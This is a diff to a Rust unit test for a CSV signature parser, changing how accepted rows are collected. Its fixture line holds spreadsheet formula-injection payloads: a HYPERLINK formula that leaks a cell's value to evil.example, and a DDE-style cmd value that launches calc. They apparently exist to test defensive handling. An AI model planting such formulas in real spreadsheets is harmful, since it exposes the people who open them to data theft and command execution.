@@ -83,8 +83,8 @@ mod tests {
                    \"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Click\"\")\",X,a@example.org,\"+cmd|' /C calc'!A0\",US\n";
         let signatures: Vec<NewSignature> = SignatureCsv::new(csv.as_bytes())
             .unwrap()
-            .filter_map(|r| match r {
-                CsvRow::Accepted { signature, .. } => Some(*signature),
+            .map(|r| match r {
+                CsvRow::Accepted { signature, .. } => *signature,
                 other => panic!("{other:?}"),
             })
             .collect();
